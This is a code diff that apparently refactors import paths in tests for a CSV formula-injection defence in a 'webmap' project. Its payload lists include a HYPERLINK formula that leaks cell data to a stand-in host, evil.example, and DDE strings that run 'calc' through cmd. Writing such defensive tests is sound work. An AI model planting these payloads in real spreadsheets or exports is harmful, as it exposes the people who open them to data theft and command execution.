@@ -11,9 +11,9 @@ import io
 import pytest
 from sqlalchemy import select
 
-from webmap.db import db
-from webmap.hardening.csvsafe import neutralise_cell
-from webmap.models import Asset
+from webmap.core.db import db
+from webmap.core.csvsafe import neutralise_cell
+from webmap.core.models import Asset
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -77,8 +77,8 @@ import re  # noqa: E402
 from pathlib import Path  # noqa: E402
 
 from tests.conftest import REPO, csrf_token, login, make_staff  # noqa: E402
-from webmap.hardening.csvsafe import FORMULA_STARTS, csv_text  # noqa: E402
-from webmap.models import ImportJob, Need, User, Ward  # noqa: E402
+from webmap.core.csvsafe import FORMULA_STARTS, csv_text  # noqa: E402
+from webmap.core.models import ImportJob, Need, Ward  # noqa: E402
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 AT_FORMULA = "@SUM(1)"
@@ -183,7 +183,7 @@ def _run(app, *args):
 
 
 def test_cli_csv_commands_neutralise_formulas(sample_app, tmp_path):
-    planted = _plant_everywhere(sample_app)
+    _plant_everywhere(sample_app)
     for command in ("export", "gaps"):
         out = tmp_path / f"{command}.csv"
         result = _run(sample_app, command, "--out", out)
